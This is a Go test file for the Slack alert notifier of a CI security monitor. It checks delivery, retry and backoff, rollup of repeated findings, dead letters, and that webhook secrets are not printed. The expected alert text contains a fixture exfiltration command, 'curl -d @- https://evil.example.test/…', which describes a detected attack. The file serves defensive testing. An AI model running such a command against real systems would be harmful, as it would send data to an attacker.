package notify

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"
	"google.golang.org/protobuf/proto"

	sallyportv1 "github.com/sallyport-ci/sallyport/proto/sallyport/v1"
	"github.com/sallyport-ci/sallyport/stream"
	"github.com/sallyport-ci/sallyport/test/slackfake"
)

func TestFindingArrivesOnce(t *testing.T) {
	r := newRig(t)
	r.start()
	f := finding(1, "evil.example.test")
	r.publish(f, f)
	m := r.awaitMessages(1)[0]
	shown := slackfake.Render(m.Message, slackfake.RenderOptions{Width: 160})
	for _, want := range []string{
		"High: New endpoint", "curl sent to evil.example.test", "acme/shop", "CI",
		"https://github.com/acme/shop/actions/runs/901", "build", "changed-files (tj-actions/changed-files@v45)",
		"octocat (push, refs/heads/main)", "runner-7 on build-host", "/opt/runner/bin/Runner.Worker",
		"curl -d @- https://evil.example.test/?a=1&b=2", "evil.example.test:443 tcp at 192.0.2.7", "new_endpoint", "T1041",
		"stable after 8 clean runs with 12 endpoints", "rotate the job's secrets", f.Id,
	} {
		if !strings.Contains(shown, want) {
			t.Errorf("the message does not say %q:\n%s", want, shown)
		}
	}
	if m.Text == "" || m.UnfurlLinks == nil || *m.UnfurlLinks {
		t.Errorf("text %q, unfurl_links %v", m.Text, m.UnfurlLinks)
	}
	r.settled()
	r.quiet(1)
	if ok, detail := r.notifier.Health(); !ok || detail != "slack: 0 waiting" {
		t.Errorf("Health = %v, %q", ok, detail)
	}
	// The same finding again, as if the stream had forgotten that it knows it.
	data, err := proto.Marshal(f)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := r.js.Publish(t.Context(), stream.FindingSubject, data); err != nil {
		t.Fatal(err)
	}
	r.settled()
	r.clock.advance(SlackWindow + time.Second)
	r.quiet(1)
}

func TestRetryAfterIsHonoured(t *testing.T) {
	r := newRig(t)
	r.slack.Script(slackfake.Reply{Status: 429, RetryAfter: 30})
	r.start()
	r.publish(finding(1, "evil.example.test"))
	r.await("the first attempt", func() bool { return r.slack.Attempts() == 1 })
	if d := r.clock.nextAlarm(t, time.Second, time.Minute); d != 30*time.Second {
		t.Errorf("waits %s, want 30 s", d)
	}
	r.clock.advance(29 * time.Second)
	r.quiet(1)
	r.clock.advance(time.Second)
	m := r.awaitMessages(1)
	r.settled()
	r.quiet(2)
	if strings.Contains(m[0].Text, "repeat") {
		t.Errorf("a message that certainly had not arrived is called a repeat: %s", m[0].Text)
	}
}

func TestServerErrorsBackOff(t *testing.T) {
	r := newRig(t)
	for range 4 {
		r.slack.Script(slackfake.Reply{Status: 500})
	}
	r.start()
	r.publish(finding(1, "evil.example.test"))
	// With a random number of 0.5: three quarters of 1, 2, 4, 8 seconds.
	for i, want := range []time.Duration{750 * time.Millisecond, 1500 * time.Millisecond, 3 * time.Second, 6 * time.Second} {
		r.await("an attempt", func() bool { return r.slack.Attempts() == i+1 })
		if got := r.clock.nextAlarm(t, want-1, want); got != want {
			t.Errorf("pause %d is %s, want %s", i, got, want)
		}
		r.clock.advance(want - time.Millisecond)
		r.quiet(i + 1)
		r.clock.advance(time.Millisecond)
	}
	r.awaitMessages(1)
	r.settled()
	r.quiet(5)
}

func TestHealthSaysWhatIsWrong(t *testing.T) {
	r := newRig(t)
	r.slack.Script(slackfake.Reply{Status: 500}, slackfake.Reply{Status: 500, RetryAfter: 3600})
	r.start()
	r.publish(finding(1, "evil.example.test"))
	r.clock.nextAlarm(t, 0, time.Second)
	if ok, detail := r.notifier.Health(); !ok || !strings.Contains(detail, "slack answered 500: rollup_error") {
		t.Errorf("after one failure: %v, %q", ok, detail)
	}
	r.clock.advance(time.Second)
	r.clock.nextAlarm(t, time.Minute, 2*time.Hour)
	r.clock.advance(2 * time.Minute)
	if ok, _ := r.notifier.Health(); ok {
		t.Error("healthy after failing for two minutes")
	}
}

func TestRepeatsBecomeOneFollowUp(t *testing.T) {
	r := newRig(t)
	r.start()
	r.publish(finding(1, "evil.example.test"))
	r.awaitMessages(1)
	for n := 2; n <= 41; n++ {
		r.publish(finding(n, "evil.example.test"))
	}
	r.publish(finding(50, "other.example.test")) // another target is another group
	if m := r.awaitMessages(2); !strings.Contains(m[1].Text, "other.example.test") {
		t.Errorf("second message: %s", m[1].Text)
	}
	r.quiet(2)
	r.clock.advance(SlackWindow)
	m := r.awaitMessages(3)
	if !strings.Contains(m[2].Text, "40 more like it in 40 runs") {
		t.Errorf("follow-up: %s", m[2].Text)
	}
	r.settled()
	r.quiet(3)
	// Those that come within the next window wait for its end; later ones do not.
	r.publish(finding(60, "evil.example.test"))
	r.quiet(3)
	r.clock.advance(SlackWindow)
	if m := r.awaitMessages(4); !strings.Contains(m[3].Text, "1 more like it in 1 run") {
		t.Errorf("second follow-up: %s", m[3].Text)
	}
	r.settled()
	r.clock.advance(SlackWindow + time.Second)
	r.publish(finding(61, "evil.example.test"))
	if m := r.awaitMessages(5); strings.Contains(m[4].Text, "more") {
		t.Errorf("after a quiet window: %s", m[4].Text)
	}
	r.settled()
	r.quiet(5)
}

func TestRepeatsSurviveARestart(t *testing.T) {
	r := newRig(t)
	r.start()
	r.publish(finding(1, "evil.example.test"))
	r.awaitMessages(1)
	for n := 2; n <= 6; n++ {
		r.publish(finding(n, "evil.example.test"))
	}
	for range 200 { // all five written down
		if _, detail := r.notifier.Health(); detail == "slack: 5 waiting" {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	r.stop()
	r.clock.advance(SlackWindow)
	r.start()
	if m := r.awaitMessages(2); !strings.Contains(m[1].Text, "5 more like it") {
		t.Errorf("follow-up after the restart: %s", m[1].Text)
	}
	r.settled()
	r.quiet(2)
}

func TestRestartInAnOutageLosesAndRepeatsNothing(t *testing.T) {
	r := newRig(t)
	for range 3 {
		r.slack.Script(slackfake.Reply{Status: 503})
	}
	r.sink.MaxItems = 1
	r.start()
	var want []string
	for n := 1; n <= 20; n++ {
		f := finding(n, fmt.Sprintf("host-%d.example.test", n))
		want = append(want, f.Id)
		r.publish(f)
	}
	r.await("the first attempt", func() bool { return r.slack.Attempts() >= 1 })
	r.stop()
	r.start()
	for len(r.slack.Messages()) < 20 {
		r.clock.advance(10 * time.Second)
		time.Sleep(20 * time.Millisecond)
		if t.Context().Err() != nil {
			t.Fatal("not delivered")
		}
	}
	r.settled()
	var got []string
	for _, m := range r.slack.Messages() {
		got = append(got, idOf(t, m.Text))
		if strings.Contains(m.Text, "repeat") {
			t.Errorf("called a repeat: %s", m.Text)
		}
	}
	if strings.Join(got, " ") != strings.Join(want, " ") {
		t.Errorf("messages for\n%q, want\n%q", got, want)
	}
}

// idOf returns the finding that a message's text is about.
func idOf(t *testing.T, text string) string {
	t.Helper()
	_, rest, ok := strings.Cut(text, "finding ")
	if !ok || len(rest) < 32 {
		t.Fatalf("no finding in %q", text)
	}
	return rest[:32]
}

func TestLostAnswerIsSaidToBePossiblyARepeat(t *testing.T) {
	r := newRig(t)
	r.slack.Script(slackfake.Reply{Accept: true, Break: true, Status: 200})
	r.start()
	r.publish(finding(1, "evil.example.test"))
	r.awaitMessages(1)
	r.clock.nextAlarm(t, 0, time.Second)
	r.clock.advance(time.Second)
	m := r.awaitMessages(2)
	if !strings.Contains(m[1].Text, possibleRepeat) || idOf(t, m[0].Text) != idOf(t, m[1].Text) {
		t.Errorf("second message: %s", m[1].Text)
	}
	r.settled()
	r.clock.advance(time.Hour)
	r.quiet(2)
}

func TestRefusedConnectionIsNotARepeat(t *testing.T) {
	s, err := NewSlack(SlackOptions{WebhookURL: "http://127.0.0.1:1/services/verysecretpart"})
	if err != nil {
		t.Fatal(err)
	}
	err = s.Deliver(t.Context(), Alert{Items: []Item{{Finding: finding(1, "x.example.test")}}})
	var retry *RetryError
	if !errors.As(err, &retry) {
		t.Errorf("%v is no RetryError", err)
	}
	if strings.Contains(err.Error(), "secret") {
		t.Errorf("the error holds the address: %v", err)
	}
	for _, shown := range []string{fmt.Sprint(s), fmt.Sprintf("%+v", s), fmt.Sprintf("%#v", s)} {
		if strings.Contains(shown, "secret") {
			t.Errorf("printed: %s", shown)
		}
	}
	for _, bad := range []string{"", "://verysecretpart", "http://198.51.100.1/verysecretpart", "ftp://x/verysecretpart", "https://\x7fverysecretpart"} {
		if _, err := NewSlack(SlackOptions{WebhookURL: bad}); err == nil || strings.Contains(err.Error(), "verysecretpart") {
			t.Errorf("NewSlack(%q): %v", bad, err)
		}
	}
}

func TestRefusedMessageGoesToTheDeadLetters(t *testing.T) {
	for _, status := range []int{http.StatusBadRequest, http.StatusForbidden, http.StatusNotFound, http.StatusGone} {
		t.Run(fmt.Sprint(status), func(t *testing.T) {
			r := newRig(t)
			for range maxRejections {
				r.slack.Script(slackfake.Reply{Status: status, Body: "reason of " + fmt.Sprint(status)})
			}
			r.start()
			f := finding(1, "evil.example.test")
			r.publish(f)
			for i := range maxRejections - 1 {
				r.await("an attempt", func() bool { return r.slack.Attempts() == i+1 })
				r.clock.nextAlarm(t, 0, 10*time.Second)
				r.clock.advance(10 * time.Second)
			}
			letter := deadLetters(t, r.js, 1)[0]
			got := new(sallyportv1.Finding)
			if err := proto.Unmarshal(letter.Data, got); err != nil || !proto.Equal(got, f) {
				t.Errorf("dead letter: %v, %v", got, err)
			}
			if h := letter.Header; !strings.Contains(h.Get(stream.ReasonHeader), "reason of "+fmt.Sprint(status)) ||
				h.Get(stream.OriginStreamHeader) != stream.FindingsStream || h.Get(stream.OriginSequenceHeader) != "1" {
				t.Errorf("headers %v", h)
			}
			// The channel goes on with the next.
			r.publish(finding(2, "other.example.test"))
			r.clock.advance(10 * time.Second)
			r.awaitMessages(1)
			r.settled()
		})
	}
}

func TestRefusedBlocksGoAsText(t *testing.T) {
	r := newRig(t)
	r.slack.Script(slackfake.Reply{Status: 400, Body: "invalid_blocks"})
	r.start()
	r.publish(finding(1, "evil.example.test"))
	r.await("an attempt", func() bool { return r.slack.Attempts() == 1 })
	r.clock.nextAlarm(t, 0, 10*time.Second)
	r.clock.advance(10 * time.Second)
	if m := r.awaitMessages(1)[0]; len(m.Blocks) != 0 || !strings.Contains(m.Text, "evil.example.test") {
		t.Errorf("message: %+v", m)
	}
	r.settled()
}

func TestMalformedFindingGoesToTheDeadLetters(t *testing.T) {
	r := newRig(t)
	r.start()
	if _, err := r.js.Publish(t.Context(), stream.FindingSubject, []byte("\xff\x00 not a finding")); err != nil {
		t.Fatal(err)
	}
	r.publish(finding(1, "evil.example.test"))
	r.awaitMessages(1)
	if l := deadLetters(t, r.js, 1); !bytes.Equal(l[0].Data, []byte("\xff\x00 not a finding")) {
		t.Errorf("dead letter %q", l[0].Data)
	}
	r.settled()
}

// TestLetterOfAnotherPart: a dead letter of ingest that came back is not told.
func TestLetterOfAnotherPart(t *testing.T) {
	r := newRig(t)
	r.start()
	for n, only := range map[int]string{1: "ingest", 2: "notify"} {
		body, err := proto.Marshal(finding(n, fmt.Sprintf("host%d.example.test", n)))
		if err != nil {
			t.Fatal(err)
		}
		m := &nats.Msg{Subject: stream.FindingSubject, Data: body, Header: nats.Header{stream.OnlyHeader: {only}}}
		if _, err := r.js.PublishMsg(t.Context(), m); err != nil {
			t.Fatal(err)
		}
	}
	if m := r.awaitMessages(1)[0]; !strings.Contains(fmt.Sprint(m), "host2.example.test") || strings.Contains(fmt.Sprint(m), "host1.example.test") {
		t.Errorf("told: %+v", m)
	}
	r.settled()
}

func TestManyAtOnceAreToldTogetherAndSlowly(t *testing.T) {
	r := newRig(t)
	r.sink.Interval = SlackInterval
	hold := make(chan struct{})
	r.slack.Script(slackfake.Reply{Until: hold})
	r.start()
	for n := 1; n <= 40; n++ {
		r.publish(finding(n, fmt.Sprintf("host-%d.example.test", n)))
	}
	for range 400 {
		if _, detail := r.notifier.Health(); detail == "slack: 40 waiting" {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	close(hold)
	// One is told, then 15 + 15 + 9 together, a second apart.
	for i := 1; i <= 4; i++ {
		r.awaitMessages(i)
		if i < 4 {
			r.clock.nextAlarm(t, 0, time.Second)
			r.quiet(i)
			r.clock.advance(SlackInterval)
		}
	}
	r.settled()
	all := ""
	for _, m := range r.slack.Messages() {
		all += m.Text + "\n"
	}
	for n := 1; n <= 40; n++ {
		if c := strings.Count(all, finding(n, "").Id); c != 1 {
			t.Errorf("finding %d was told %d times", n, c)
		}
	}
}

func TestMinSeverityFilters(t *testing.T) {
	r := newRig(t)
	r.sink.MinSeverity = sallyportv1.Severity_SEVERITY_HIGH
	r.start()
	low := finding(1, "low.example.test")
	low.Policy.Severity = sallyportv1.Severity_SEVERITY_MEDIUM
	r.publish(low, finding(2, "high.example.test"))
	if m := r.awaitMessages(1); !strings.Contains(m[0].Text, "high.example.test") {
		t.Errorf("told: %s", m[0].Text)
	}
	r.settled()
	r.quiet(1)
}

// slow is a target that takes what comes, when it may.
type slow struct {
	mu    sync.Mutex
	items []Item
	err   error
}

func (s *slow) Deliver(_ context.Context, a Alert) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.err != nil {
		return s.err
	}
	s.items = append(s.items, a.Items...)
	return nil
}

func TestOneSinkDoesNotHoldUpAnother(t *testing.T) {
	r := newRig(t)
	away := &slow{err: &RetryError{Err: errors.New("away")}}
	r.start(Sink{Name: "away", Target: away})
	for n := 1; n <= 5; n++ {
		r.publish(finding(n, fmt.Sprintf("host-%d.example.test", n)))
	}
	r.awaitMessages(2)
	r.settled()
	if ok, detail := r.notifier.Health(); !ok || !strings.Contains(detail, "away: 5 waiting, failing") {
		t.Errorf("Health = %v, %q", ok, detail)
	}
	away.mu.Lock()
	away.err = nil
	away.mu.Unlock()
	for range 200 {
		r.clock.advance(time.Second)
		away.mu.Lock()
		n := len(away.items)
		away.mu.Unlock()
		if n == 5 {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Error("the sink that was away was not told")
}

func TestMarksAreForgottenAfterAWeek(t *testing.T) {
	r := newRig(t)
	r.clock.now = time.Now() // entries are dated by NATS
	r.start()
	r.publish(finding(1, "evil.example.test"))
	r.awaitMessages(1)
	r.settled()
	kv, err := r.js.KeyValue(t.Context(), stream.NotifyBucket)
	if err != nil {
		t.Fatal(err)
	}
	key := "slack.finding." + finding(1, "").Id
	if _, err := kv.Get(t.Context(), key); err != nil {
		t.Fatalf("no mark: %v", err)
	}
	r.clock.nextAlarm(t, 59*time.Minute, time.Hour)
	r.clock.advance(8 * 24 * time.Hour)
	for range 200 {
		if _, err = kv.Get(t.Context(), key); errors.Is(err, jetstream.ErrKeyNotFound) {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	keys, err := kv.ListKeys(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	for k := range keys.Keys() {
		t.Errorf("%s is still there", k)
	}
}
